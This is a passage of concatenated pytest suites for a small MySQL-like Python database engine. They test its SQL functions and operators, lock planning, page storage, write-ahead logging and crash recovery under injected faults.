        assert q("LOWER('aBc')") == "abc"

    def test_substring_variants(self, q):
        assert q("SUBSTRING('hello', 2)") == "ello"
        assert q("SUBSTRING('hello', 2, 3)") == "ell"
        assert q("SUBSTRING('hello', -3)") == "llo"
        assert q("SUBSTRING('hello', 0)") == ""

    def test_trim_family(self, q):
        assert q("TRIM('  x  ')") == "x"
        assert q("LTRIM('  x')") == "x"
        assert q("RTRIM('x  ')") == "x"

    def test_replace(self, q):
        assert q("REPLACE('aXbXc', 'X', '-')") == "a-b-c"

    def test_ascii_char(self, q):
        assert q("ASCII('A')") == 65
        assert q("ASCII('')") == 0
        assert q("CHAR(39)") == "'"
        assert q("CHAR(72, 105)") == "Hi"

    def test_hex_unhex(self, q):
        assert q("HEX('AB')") == "4142"
        assert q("UNHEX('4142')") == "AB"
        assert q("UNHEX('zz')") is None
        assert q("HEX(255)") == "FF"

    def test_md5_sha1(self, q):
        assert q("MD5('abc')") == "900150983cd24fb0d6963f7d28e17f72"
        assert q("SHA1('abc')").startswith("a9993e36")

    def test_hex_literal_equivalence(self, q):
        assert q("0x414243") == "ABC"


class TestNumericFunctions(object):
    def test_abs_round(self, q):
        assert q("ABS(-3)") == 3
        assert q("ROUND(2.6)") == 3
        assert q("ROUND(2.345, 2)") == 2.35 or q("ROUND(2.345, 2)") == 2.34

    def test_floor_ceiling(self, q):
        assert q("FLOOR(2.7)") == 2
        assert q("CEILING(2.1)") == 3

    def test_mod_pow(self, q):
        assert q("MOD(7, 3)") == 1
        assert q("MOD(7, 0)") is None
        assert q("POW(2, 10)") == 1024.0

    def test_greatest_least(self, q):
        assert q("GREATEST(1, 5, 3)") == 5
        assert q("LEAST(1, 5, 3)") == 1
        assert q("GREATEST(1, NULL)") is None


class TestConditionalFunctions(object):
    def test_if(self, q):
        assert q("IF(1, 'yes', 'no')") == "yes"
        assert q("IF(0, 'yes', 'no')") == "no"

    def test_ifnull_nullif_coalesce(self, q):
        assert q("IFNULL(NULL, 'd')") == "d"
        assert q("IFNULL('v', 'd')") == "v"
        assert q("NULLIF(3, 3)") is None
        assert q("NULLIF(3, 4)") == 3
        assert q("COALESCE(NULL, NULL, 7)") == 7


class TestEnvironmentFunctions(object):
    def test_version_user_database(self, q, db):
        assert "repro" in q("VERSION()")
        assert q("DATABASE()") == db.name
        assert "@" in q("USER()")

    def test_now_is_deterministic_format(self, q):
        value = q("NOW()")
        assert value.startswith("2016-07-05 ")

    def test_rand_seeded(self):
        a = Database(seed=7)
        b = Database(seed=7)
        ca, cb = Connection(a), Connection(b)
        assert ca.query("SELECT RAND()").result_set.rows == \
            cb.query("SELECT RAND()").result_set.rows

    def test_sleep_records_not_blocks(self, q, db, conn):
        outcome = conn.query("SELECT SLEEP(5)")
        assert outcome.ok
        assert outcome.sleep_seconds == 5.0

    def test_benchmark_records(self, conn):
        outcome = conn.query("SELECT BENCHMARK(1000000, 1)")
        assert outcome.sleep_seconds > 0

    def test_unknown_function(self, q):
        with pytest.raises(SQLError) as err:
            q("NO_SUCH_FN(1)")
        assert err.value.errno == 1305


class TestOperators(object):
    def test_arithmetic(self, q):
        assert q("1 + 2 * 3") == 7
        assert q("10 / 4") == 2.5
        assert q("10 DIV 4") == 2
        assert q("10 % 3") == 1

    def test_division_by_zero_is_null(self, q):
        assert q("1 / 0") is None
        assert q("1 DIV 0") is None
        assert q("1 % 0") is None

    def test_comparisons_return_int(self, q):
        assert q("1 = 1") == 1
        assert q("1 > 2") == 0
        assert q("2 >= 2") == 1
        assert q("1 != 2") == 1

    def test_string_number_comparison(self, q):
        assert q("'1abc' = 1") == 1   # the coercion trap
        assert q("'abc' = 0") == 1

    def test_null_comparisons(self, q):
        assert q("NULL = NULL") is None
        assert q("NULL <=> NULL") == 1

    def test_logic(self, q):
        assert q("1 AND 1") == 1
        assert q("1 AND 0") == 0
        assert q("0 OR 1") == 1
        assert q("1 XOR 1") == 0
        assert q("NOT 0") == 1

    def test_three_valued_logic(self, q):
        assert q("NULL AND 1") is None
        assert q("NULL AND 0") == 0      # false short-circuits
        assert q("NULL OR 1") == 1       # true short-circuits
        assert q("NULL OR 0") is None

    def test_bitwise(self, q):
        assert q("5 & 3") == 1
        assert q("5 | 3") == 7
        assert q("1 << 4") == 16
        assert q("16 >> 2") == 4

    def test_unary(self, q):
        assert q("-(3)") == -3
        assert q("-'5x'") == -5

    def test_between(self, q):
        assert q("2 BETWEEN 1 AND 3") == 1
        assert q("5 BETWEEN 1 AND 3") == 0
        assert q("2 NOT BETWEEN 1 AND 3") == 0

    def test_in(self, q):
        assert q("2 IN (1, 2, 3)") == 1
        assert q("9 IN (1, 2)") == 0
        assert q("9 NOT IN (1, 2)") == 1
        assert q("9 IN (1, NULL)") is None

    def test_like(self, q):
        assert q("'hello' LIKE 'h%'") == 1
        assert q("'hello' LIKE 'h_llo'") == 1
        assert q("'hello' LIKE 'x%'") == 0
        assert q("'HELLO' LIKE 'hello'") == 1  # case-insensitive
        assert q("'50%' LIKE '50\\\\%'") == 1

    def test_regexp(self, q):
        assert q("'hello' REGEXP '^he'") == 1
        assert q("'hello' REGEXP 'z'") == 0

    def test_case_expressions(self, q):
        assert q("CASE WHEN 1=1 THEN 'a' ELSE 'b' END") == "a"
        assert q("CASE 2 WHEN 1 THEN 'a' WHEN 2 THEN 'b' END") == "b"
        assert q("CASE 9 WHEN 1 THEN 'a' END") is None
