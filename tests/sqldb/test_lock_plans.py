"""Statement lock classification and the engine's lock hierarchy.

Every statement maps to a :class:`LockPlan` — catalog mode plus
per-table modes in the global acquisition order — before it runs.
Under MVCC snapshot reads the classification shrank: SELECTs take no
table locks at all, DML excludes only its mutation target (writer vs
writer), and DDL still excludes everything.
"""

import threading

import pytest

from repro.sqldb.connection import Connection
from repro.sqldb.engine import (
    Database,
    LockManager,
    LockPlan,
    lock_plan,
    referenced_tables,
)
from repro.sqldb.parser import parse_one


def _plan(sql):
    return lock_plan(parse_one(sql))


class TestReferencedTables(object):
    def test_simple_select(self):
        assert referenced_tables(parse_one("SELECT a FROM t")) == {"t"}

    def test_join_collects_both_sides(self):
        stmt = parse_one(
            "SELECT o.id FROM orders o JOIN custs c ON o.cust = c.id"
        )
        assert referenced_tables(stmt) == {"orders", "custs"}

    def test_subquery_in_where(self):
        stmt = parse_one(
            "SELECT a FROM t WHERE b IN (SELECT b FROM u WHERE c = 1)"
        )
        assert referenced_tables(stmt) == {"t", "u"}

    def test_alias_qualifiers_are_not_tables(self):
        stmt = parse_one(
            "SELECT o.id FROM orders o WHERE o.total > 1"
        )
        assert referenced_tables(stmt) == {"orders"}

    def test_delete_with_subquery(self):
        stmt = parse_one(
            "DELETE FROM t WHERE a IN (SELECT a FROM Src)"
        )
        assert referenced_tables(stmt) == {"t", "src"}


class TestClassification(object):
    def test_select_needs_no_table_locks(self):
        # MVCC snapshot reads: SELECT pins a read view instead of
        # parking on table locks, so the plan is catalog-S only
        plan = _plan("SELECT a FROM t JOIN u ON t.x = u.x")
        assert plan.catalog_shared
        assert plan.tables == ()

    def test_explain_is_a_read(self):
        plan = _plan("EXPLAIN SELECT a FROM t")
        assert plan.catalog_shared
        assert plan.tables == ()

    def test_insert_takes_target_exclusive(self):
        plan = _plan("INSERT INTO t (a) VALUES (1)")
        assert plan.catalog_shared
        assert plan.tables == (("t", False),)

    def test_update_with_subquery_locks_target_only(self):
        # the subquery side reads through the statement's snapshot;
        # only the mutation target needs exclusion (writer vs writer)
        plan = _plan(
            "UPDATE t SET a = 1 WHERE b IN (SELECT b FROM u)"
        )
        assert dict(plan.tables) == {"t": False}

    def test_ddl_takes_catalog_exclusive(self):
        for sql in ("CREATE TABLE t (a INT)", "DROP TABLE t",
                    "CREATE INDEX i ON t (a)"):
            plan = _plan(sql)
            assert not plan.catalog_shared
            assert plan.tables == ()

    def test_transaction_control_has_no_plan(self):
        for sql in ("BEGIN", "COMMIT", "ROLLBACK"):
            assert _plan(sql) is None

    def test_tables_come_presorted(self):
        # writers still sort into the global acquisition order; reads
        # no longer contribute entries at all
        plan = LockPlan(True, [("zeta", False), ("alpha", False)])
        assert plan.tables == (("alpha", False), ("zeta", False))
        assert _plan("SELECT * FROM zeta JOIN alpha ON zeta.a = alpha.a"
                     ).tables == ()


class TestLockPlanOrdering(object):
    def test_plan_sorts_its_tables(self):
        plan = LockPlan(True, [("b", True), ("a", False)])
        assert plan.tables == (("a", False), ("b", True))


class TestLockManager(object):
    def test_shared_plans_overlap(self):
        manager = LockManager()
        plan = LockPlan(True, [("t", True)])
        manager.acquire(plan)
        manager.acquire(plan)   # a second reader must not block
        manager.release(plan)
        manager.release(plan)
        stats = manager.stats()
        assert stats["read_acquires"] == 4  # catalog + table, twice
        assert stats["contended"] == 0

    def test_exclusive_table_blocks_reader(self):
        manager = LockManager()
        write_plan = LockPlan(True, [("t", False)])
        read_plan = LockPlan(True, [("t", True)])
        manager.acquire(write_plan)
        got = []

        def reader():
            manager.acquire(read_plan)
            got.append("read")
            manager.release(read_plan)

        thread = threading.Thread(target=reader)
        thread.start()
        thread.join(timeout=0.2)
        assert got == []    # still parked on the table lock
        manager.release(write_plan)
        thread.join(timeout=5)
        assert got == ["read"]
        assert manager.stats()["contended"] >= 1


class TestDatabaseLockModes(object):
    def test_shared_mode_plans_reads_shared(self):
        database = Database()
        plan = database._lock_plan_for(parse_one("SELECT 1 FROM t"))
        assert plan.catalog_shared

    def test_exclusive_mode_serializes_everything(self):
        database = Database(lock_mode="exclusive")
        plan = database._lock_plan_for(parse_one("SELECT 1 FROM t"))
        assert not plan.catalog_shared
        assert plan.tables == ()

    def test_invalid_mode_rejected(self):
        with pytest.raises(ValueError):
            Database(lock_mode="optimistic")

    def test_statements_release_their_locks(self):
        database = Database()
        database.seed("CREATE TABLE t (a INT); INSERT INTO t VALUES (1)")
        conn = Connection(database)
        conn.query_or_raise("SELECT a FROM t")
        conn.query_or_raise("UPDATE t SET a = 2")
        stats = database.lock_manager.stats()
        assert stats["read_acquires"] > 0
        assert stats["write_acquires"] > 0
        # nothing is held between statements
        assert stats["catalog"]["readers"] == 0
        assert not stats["catalog"]["writer"]
        for state in stats["tables"].values():
            assert state["readers"] == 0
            assert not state["writer"]

    def test_transactions_run_under_the_hierarchy(self):
        database = Database()
        database.seed("CREATE TABLE t (a INT); INSERT INTO t VALUES (1)")
        conn = Connection(database)
        conn.query_or_raise("BEGIN")
        conn.query_or_raise("UPDATE t SET a = 5")
        conn.query_or_raise("ROLLBACK")
        assert database.table("t").rows[0]["a"] == 1
        stats = database.lock_manager.stats()
        assert stats["catalog"]["readers"] == 0
        assert not stats["catalog"]["writer"]
