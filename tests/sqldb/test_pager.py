"""The raw page layer: codec, allocation, doublewrite torn-write
protection, the I/O retry shell and crash planting."""

import os

import pytest

from repro import faults
from repro.faults import FaultKind, FaultPlan
from repro.sqldb import pager as pager_mod
from repro.sqldb.errors import PageCorruptionError, PagerError
from repro.sqldb.pager import (
    DEFAULT_PAGE_SIZE,
    Pager,
    SimulatedCrash,
    decode_page,
    encode_page,
    verify_page,
)


def make_pager(tmp_path, **kwargs):
    kwargs.setdefault("sync", False)
    return Pager(str(tmp_path / "d"), **kwargs)


class TestPageCodec(object):
    def test_round_trip(self):
        page = encode_page(7, b'{"k": []}', 42, DEFAULT_PAGE_SIZE)
        assert len(page) == DEFAULT_PAGE_SIZE
        assert verify_page(page, 7, DEFAULT_PAGE_SIZE)
        lsn, payload = decode_page(page, 7, DEFAULT_PAGE_SIZE)
        assert (lsn, payload) == (42, b'{"k": []}')

    def test_any_single_bit_flip_breaks_the_crc(self):
        page = bytearray(encode_page(3, b"payload", 9, DEFAULT_PAGE_SIZE))
        # a spread of positions: header, payload, zero padding, tail
        for pos in (0, 10, 30, 2048, DEFAULT_PAGE_SIZE - 1):
            flipped = bytearray(page)
            flipped[pos] ^= 0x10
            assert not verify_page(bytes(flipped), 3, DEFAULT_PAGE_SIZE)
            with pytest.raises(PageCorruptionError):
                decode_page(bytes(flipped), 3, DEFAULT_PAGE_SIZE)

    def test_page_number_is_part_of_the_checksum_contract(self):
        # an intact page homed at the wrong slot must not verify —
        # that is how cross-linked writes are caught
        page = encode_page(5, b"x", 1, DEFAULT_PAGE_SIZE)
        assert not verify_page(page, 6, DEFAULT_PAGE_SIZE)


class TestAllocation(object):
    def test_page_zero_is_reserved(self, tmp_path):
        pager = make_pager(tmp_path)
        assert pager.page_count == 1
        first = pager.allocate()
        assert first == 1
        assert pager.allocate() == 2
        pager.close()

    def test_restored_allocation_never_resurrects_page_zero(self, tmp_path):
        pager = make_pager(tmp_path)
        pager.set_allocation(0, [0, 3])
        assert pager.page_count == 1
        assert pager.freelist == [3]
        assert pager.allocate() != 0
        pager.close()

    def test_free_and_reallocate(self, tmp_path):
        pager = make_pager(tmp_path)
        a = pager.allocate()
        b = pager.allocate()
        pager.free(a)
        assert pager.allocate() == a
        assert pager.allocate() == b + 1
        pager.close()


class TestHomeIO(object):
    def test_write_read_round_trip(self, tmp_path):
        pager = make_pager(tmp_path)
        page_no = pager.allocate()
        pager.write_page(page_no, b'{"rows": [1, 2]}', 5)
        assert pager.read_page(page_no) == (5, b'{"rows": [1, 2]}')
        assert pager.writes >= 1 and pager.reads >= 1
        pager.close()

    def test_torn_home_page_raises_fail_closed(self, tmp_path):
        pager = make_pager(tmp_path)
        page_no = pager.allocate()
        pager.write_page(page_no, b"payload", 1)
        pager.close()
        pager_mod.flip_page_bit(str(tmp_path / "d"), page_no, 99)
        reopened = make_pager(tmp_path)
        reopened.set_allocation(page_no + 1, [])
        with pytest.raises(PageCorruptionError):
            reopened.read_page(page_no)
        reopened.close()


class TestDoublewrite(object):
    def _images(self, pager, contents):
        images = {}
        for page_no, payload in contents.items():
            images[page_no] = encode_page(page_no, payload, 7,
                                          pager.page_size)
        return images

    def test_sealed_batch_round_trips(self, tmp_path):
        pager = make_pager(tmp_path)
        images = self._images(pager, {1: b"one", 2: b"two"})
        pager.write_doublewrite(images, batch_id=3)
        batch, loaded = pager.load_doublewrite()
        assert batch == 3
        assert loaded == images
        pager.close()

    def test_recover_home_repairs_a_torn_page(self, tmp_path):
        pager = make_pager(tmp_path)
        for _ in range(2):
            pager.allocate()
        images = self._images(pager, {1: b"one", 2: b"two"})
        pager.write_doublewrite(images, batch_id=1)
        # page 1 homed intact, page 2 torn mid-write (power cut after
        # 10 bytes — mid-header, so the slot cannot checksum)
        pager.write_home_raw(1, images[1])
        pager.write_home_raw(2, images[2][:10])
        applied, torn = pager.recover_home(1)
        assert torn == 1
        assert applied == 1
        assert pager.read_page(2) == (7, b"two")
        pager.close()

    def test_corrupt_doublewrite_entry_is_dropped_not_applied(
            self, tmp_path):
        pager = make_pager(tmp_path)
        images = self._images(pager, {1: b"one", 2: b"two"})
        pager.write_doublewrite(images, batch_id=1)
        pager.close()
        # flip a bit inside the first dw *entry* body (after the seal)
        path = pager_mod.doublewrite_path(str(tmp_path / "d"))
        with open(path, "r+b") as handle:
            handle.seek(40)
            byte = handle.read(1)
            handle.seek(40)
            handle.write(bytes([byte[0] ^ 1]))
        reopened = make_pager(tmp_path)
        loaded = reopened.load_doublewrite()
        assert loaded is not None
        _batch, entries = loaded
        # the damaged image must not be offered for repair; the intact
        # one still is
        assert 1 not in entries
        assert 2 in entries
        reopened.close()


class TestRetryShell(object):
    def test_transient_write_faults_are_retried(self, tmp_path):
        pager = make_pager(tmp_path)
        page_no = pager.allocate()
        plan = FaultPlan()
        plan.inject("pager.write", FaultKind.FLAKY, fails=2)
        with faults.armed(plan):
            pager.write_page(page_no, b"ok", 1)
        assert pager.io_retries == 2
        assert pager.read_page(page_no) == (1, b"ok")
        pager.close()

    def test_persistent_faults_escalate_as_pager_error(self, tmp_path):
        pager = make_pager(tmp_path)
        page_no = pager.allocate()
        plan = FaultPlan()
        plan.inject("pager.write", FaultKind.RAISE)
        with faults.armed(plan):
            with pytest.raises(PagerError):
                pager.write_page(page_no, b"never", 1)
        assert pager.io_escalations == 1
        pager.close()

    def test_read_site_is_wired(self, tmp_path):
        pager = make_pager(tmp_path)
        page_no = pager.allocate()
        pager.write_page(page_no, b"x", 1)
        plan = FaultPlan()
        spec = plan.inject("pager.read", FaultKind.FLAKY, fails=1)
        with faults.armed(plan):
            assert pager.read_page(page_no) == (1, b"x")
        assert spec.fired == 1
        pager.close()


class TestCrashPlanting(object):
    def test_planted_crash_truncates_the_write(self, tmp_path):
        pager = make_pager(tmp_path)
        page_no = pager.allocate()
        pager.plant_crash(0, 100)
        with pytest.raises(SimulatedCrash):
            pager.write_page(page_no, b"doomed", 1)
        assert pager.crashed
        data = pager_mod.read_pages_bytes(str(tmp_path / "d"))
        start = page_no * pager.page_size
        written = data[start:start + pager.page_size]
        # exactly 100 bytes landed; the rest of the slot stayed absent
        assert len(written) <= 100
        pager.close()

    def test_crash_index_is_relative_to_planting_time(self, tmp_path):
        pager = make_pager(tmp_path)
        a, b = pager.allocate(), pager.allocate()
        pager.write_page(a, b"first", 1)
        pager.plant_crash(1, 0)     # the *second* write from now
        pager.write_page(a, b"again", 2)
        with pytest.raises(SimulatedCrash):
            pager.write_page(b, b"boom", 3)
        pager.close()


class TestAudit(object):
    def test_audit_reports_every_allocated_page(self, tmp_path):
        pager = make_pager(tmp_path)
        for payload in (b"one", b"two", b"three"):
            pager.write_page(pager.allocate(), payload, 4)
        pager.close()
        entries = list(pager_mod.audit_pages(str(tmp_path / "d")))
        assert [e[0] for e in entries] == [1, 2, 3]
        assert all(ok for _no, ok, _lsn in entries)

    def test_audit_flags_a_flipped_bit(self, tmp_path):
        pager = make_pager(tmp_path)
        pager.write_page(pager.allocate(), b"one", 4)
        pager.write_page(pager.allocate(), b"two", 4)
        pager.close()
        pager_mod.flip_page_bit(str(tmp_path / "d"), 2, 12345)
        entries = {no: ok for no, ok, _lsn in
                   pager_mod.audit_pages(str(tmp_path / "d"))}
        assert entries[1] is True
        assert entries[2] is False
