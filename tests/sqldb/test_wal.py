"""WAL mechanics: framing, torn tails, corruption, checkpoints, guards.

The durability layer's unit contract, tested below the engine: records
round-trip bit-exactly, a torn tail is a normal crash artifact (silently
truncated), mid-log damage is bit rot (loudly surfaced), checkpoints are
atomic at every step, and the hot path pays exactly one module-attribute
read when no WAL is attached.
"""

import pytest

from repro import faults
from repro.sqldb import wal
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.errors import SQLError, WalCorruptionError, WalError


def _fill(log):
    lsns = [
        log.append(wal.WalRecord.STMT, sql="INSERT INTO t (v) VALUES (1)",
                   clock=0, rand=0, durability_point=True),
        log.append(wal.WalRecord.BEGIN, tx=1),
        log.append(wal.WalRecord.STMT, tx=1, sql="UPDATE t SET v = 2",
                   clock=1, rand=0),
        log.append(wal.WalRecord.COMMIT, tx=1, durability_point=True),
    ]
    return lsns


class TestFraming(object):
    def test_records_round_trip(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path))
        _fill(log)
        log.close()
        scan = wal.scan_log(wal.log_path(str(tmp_path)))
        assert [r.lsn for r in scan.records] == [1, 2, 3, 4]
        assert scan.records[0].op == wal.WalRecord.STMT
        assert scan.records[0].tx == 0
        assert scan.records[2].sql == "UPDATE t SET v = 2"
        assert scan.records[2].clock == 1
        assert scan.records[3].op == wal.WalRecord.COMMIT
        assert scan.torn_bytes == 0

    def test_lsns_strictly_increase(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path), start_lsn=7)
        lsns = _fill(log)
        log.close()
        assert lsns == [7, 8, 9, 10]
        assert log.last_lsn == 10

    def test_missing_log_scans_empty(self, tmp_path):
        scan = wal.scan_log(str(tmp_path / "absent.log"))
        assert scan.records == [] and scan.clean_offset == 0

    def test_failed_flag_round_trips(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path))
        log.append(wal.WalRecord.STMT, sql="INSERT ...", failed=True,
                   durability_point=True)
        log.close()
        scan = wal.scan_log(wal.log_path(str(tmp_path)))
        assert scan.records[0].failed is True


class TestTornTail(object):
    def test_every_truncation_point_is_a_clean_prefix(self, tmp_path):
        """Cutting the log at ANY byte yields the records fully
        contained in the prefix — never an error, never a phantom."""
        log = wal.WriteAheadLog(str(tmp_path))
        _fill(log)
        log.close()
        path = wal.log_path(str(tmp_path))
        data = wal.read_log_bytes(path)
        boundaries = [end for _r, end in wal.iter_frames(data)]
        for offset in range(len(data) + 1):
            torn = str(tmp_path / "torn.log")
            wal.write_log_bytes(torn, data[:offset])
            scan = wal.scan_log(torn)
            expected = sum(1 for b in boundaries if b <= offset)
            assert len(scan.records) == expected
            assert scan.clean_offset <= offset
            assert scan.torn_bytes == offset - scan.clean_offset

    def test_truncate_log_removes_the_tail(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path))
        _fill(log)
        log.close()
        path = wal.log_path(str(tmp_path))
        data = wal.read_log_bytes(path)
        wal.write_log_bytes(path, data + b"\x07\x03")  # torn garbage
        scan = wal.scan_log(path)
        assert scan.torn_bytes == 2
        wal.truncate_log(path, scan.clean_offset)
        assert wal.read_log_bytes(path) == data


class TestMidLogCorruption(object):
    def test_bit_flip_with_data_after_raises(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path))
        _fill(log)
        log.close()
        path = wal.log_path(str(tmp_path))
        data = bytearray(wal.read_log_bytes(path))
        boundaries = [end for _r, end in wal.iter_frames(bytes(data))]
        # flip one payload byte of the SECOND record (valid data follows)
        data[boundaries[0] + 12] ^= 0x40
        wal.write_log_bytes(path, bytes(data))
        with pytest.raises(WalCorruptionError) as info:
            wal.scan_log(path)
        assert info.value.offset == boundaries[0]
        assert [r.lsn for r in info.value.clean_records] == [1]
        assert isinstance(info.value, SQLError)  # a clear engine error

    def test_bit_flip_in_final_record_is_a_torn_tail(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path))
        _fill(log)
        log.close()
        path = wal.log_path(str(tmp_path))
        data = bytearray(wal.read_log_bytes(path))
        data[-1] ^= 0x01
        wal.write_log_bytes(path, bytes(data))
        scan = wal.scan_log(path)  # no raise: a crash can explain this
        assert [r.lsn for r in scan.records] == [1, 2, 3]
        assert scan.torn_bytes > 0


class TestCheckpoint(object):
    def test_checkpoint_round_trip_and_rotation(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path))
        _fill(log)
        lsn = log.write_checkpoint({"tables": [], "schema_version": 3})
        assert lsn == 4
        body = wal.load_checkpoint(str(tmp_path))
        assert body["lsn"] == 4 and body["schema_version"] == 3
        # rotated: the log is empty, new appends continue the LSN chain
        assert wal.read_log_bytes(wal.log_path(str(tmp_path))) == b""
        assert log.append(wal.WalRecord.STMT, sql="X",
                          durability_point=True) == 5
        log.close()

    def test_damaged_checkpoint_refuses_to_load(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path))
        log.write_checkpoint({"tables": []})
        log.close()
        path = wal.checkpoint_path(str(tmp_path))
        with open(path) as handle:  # test-only: forging bit rot
            text = handle.read()
        with open(path, "w") as handle:
            handle.write(text.replace('"lsn"', '"lsm"'))
        with pytest.raises(WalCorruptionError):
            wal.load_checkpoint(str(tmp_path))

    def test_missing_checkpoint_is_none(self, tmp_path):
        assert wal.load_checkpoint(str(tmp_path)) is None


class TestSyncModes(object):
    def test_commit_mode_fsyncs_every_durability_point(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path), sync_mode="commit")
        for _ in range(5):
            log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
        assert log.fsync_calls == 5
        log.close()

    def test_batch_mode_groups_commits(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path), sync_mode="batch",
                                batch_commits=4)
        for _ in range(11):
            log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
        assert log.fsync_calls == 2  # after the 4th and 8th commit
        log.close()  # close drains the tail
        assert log.fsync_calls == 3

    def test_batch_mode_tracks_unsynced_backlog(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path), sync_mode="batch",
                                batch_commits=4)
        assert log.pending_unsynced_commits == 0
        for n in (1, 2, 3):
            log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
            assert log.pending_unsynced_commits == n
        log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
        assert log.pending_unsynced_commits == 0  # 4th commit fsynced
        log.close()

    def test_commit_mode_never_accumulates_backlog(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path), sync_mode="commit")
        for _ in range(3):
            log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
            assert log.pending_unsynced_commits == 0
        log.close()

    def test_close_drains_batched_tail(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path), sync_mode="batch",
                                batch_commits=100)
        log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
        log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
        assert log.pending_unsynced_commits == 2
        assert log.fsync_calls == 0
        log.close()
        assert log.fsync_calls == 1  # clean shutdown flushes the tail
        assert log.pending_unsynced_commits == 0

    def test_checkpoint_drains_batched_tail(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path), sync_mode="batch",
                                batch_commits=100)
        log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
        log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
        assert log.pending_unsynced_commits == 2
        log.write_checkpoint({"tables": []})
        assert log.pending_unsynced_commits == 0  # synced before rotation
        assert log.fsync_calls >= 1
        log.close()

    def test_abandon_leaves_backlog_undrained(self, tmp_path):
        """The crash path must NOT quietly rescue batched commits: the
        backlog counter keeps reporting the loss window, and because
        appends are unbuffered writes, whatever reached the OS before
        the crash is still a clean scannable prefix."""
        log = wal.WriteAheadLog(str(tmp_path), sync_mode="batch",
                                batch_commits=100)
        log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
        log.append(wal.WalRecord.STMT, sql="X", durability_point=True)
        fsyncs_before = log.fsync_calls
        log.abandon()
        assert log.fsync_calls == fsyncs_before  # no sync while dying
        assert log.pending_unsynced_commits == 2
        scan = wal.scan_log(wal.log_path(str(tmp_path)))
        assert [record.lsn for record in scan.records] == [1, 2]

    def test_unknown_mode_rejected(self, tmp_path):
        with pytest.raises(ValueError):
            wal.WriteAheadLog(str(tmp_path), sync_mode="yolo")

    def test_closed_log_rejects_appends(self, tmp_path):
        log = wal.WriteAheadLog(str(tmp_path))
        log.close()
        with pytest.raises(WalError):
            log.append(wal.WalRecord.STMT, sql="X")


class TestAttachGuards(object):
    def test_attached_counter_tracks_databases(self, tmp_path):
        base = wal.ATTACHED
        db = Database.recover(str(tmp_path / "a"))
        assert wal.ATTACHED == base + 1
        db2 = Database.recover(str(tmp_path / "b"))
        assert wal.ATTACHED == base + 2
        db.close()
        db2.close()
        assert wal.ATTACHED == base
        db.close()  # idempotent: a second close must not double-count
        assert wal.ATTACHED == base

    def test_double_attach_rejected(self, tmp_path):
        db = Database.recover(str(tmp_path / "a"))
        try:
            with pytest.raises(WalError):
                db.attach_wal(str(tmp_path / "b"))
        finally:
            db.close()

    def test_attach_over_unread_state_rejected(self, tmp_path):
        first = Database.recover(str(tmp_path))
        first.run("CREATE TABLE t (id INT)")
        first.close()
        fresh = Database()
        with pytest.raises(WalError):
            fresh.attach_wal(str(tmp_path))

    def test_attach_during_transaction_rejected(self, tmp_path):
        db = Database()
        db.run("CREATE TABLE t (id INT)")
        db.begin()
        with pytest.raises(WalError):
            db.attach_wal(str(tmp_path))
        db.rollback()


class TestFaultSites(object):
    """The four wal.* fault sites must actually gate the durability
    path, and an injected crash must surface as a clean SQLError to the
    client while the committed prefix stays recoverable."""

    def _durable_db(self, tmp_path):
        db = Database.recover(str(tmp_path))
        db.run("CREATE TABLE t (id INT AUTO_INCREMENT PRIMARY KEY, "
               "v VARCHAR(10))")
        db.run("INSERT INTO t (v) VALUES ('safe')")
        return db

    def test_append_crash_is_contained_and_prefix_survives(self, tmp_path):
        db = self._durable_db(tmp_path)
        conn = Connection(db)
        plan = faults.FaultPlan(seed=0)
        plan.inject("wal.append", faults.FaultKind.RAISE, times=1)
        with faults.armed(plan):
            outcome = conn.query("INSERT INTO t (v) VALUES ('lost')")
        assert not outcome.ok
        assert isinstance(outcome.error, SQLError)
        assert plan.hits_by_site.get("wal.append")
        db.close()
        recovered = Database.recover(str(tmp_path))
        values = [row["v"] for row in recovered.table("t").rows]
        assert values == ["safe"]  # unacknowledged row not resurrected
        recovered.close()

    def test_fsync_crash_is_contained(self, tmp_path):
        db = self._durable_db(tmp_path)
        conn = Connection(db)
        plan = faults.FaultPlan(seed=0)
        plan.inject("wal.fsync", faults.FaultKind.RAISE, times=1)
        with faults.armed(plan):
            outcome = conn.query("INSERT INTO t (v) VALUES ('maybe')")
        assert not outcome.ok
        assert plan.hits_by_site.get("wal.fsync")
        db.close()

    def test_checkpoint_crash_leaves_old_state_valid(self, tmp_path):
        db = self._durable_db(tmp_path)
        plan = faults.FaultPlan(seed=0)
        plan.inject("wal.checkpoint", faults.FaultKind.RAISE, times=1)
        with faults.armed(plan):
            with pytest.raises(Exception):
                db.checkpoint()
        db.close()
        recovered = Database.recover(str(tmp_path))
        assert [row["v"] for row in recovered.table("t").rows] == ["safe"]
        recovered.close()

    def test_recover_site_fires_during_scan(self, tmp_path):
        db = self._durable_db(tmp_path)
        db.close()
        plan = faults.FaultPlan(seed=0)
        plan.inject("wal.recover", faults.FaultKind.RAISE, times=1)
        with faults.armed(plan):
            with pytest.raises(Exception):
                Database.recover(str(tmp_path))
        assert plan.hits_by_site.get("wal.recover")
        # disarmed, the same directory recovers fine
        recovered = Database.recover(str(tmp_path))
        assert len(recovered.table("t")) == 1
        recovered.close()
