"""Parse → unparse → parse round-trip: the parser's strongest property.

Canonical re-rendering may change spelling (parentheses, keyword case)
but must never change the AST.
"""

import string

import pytest
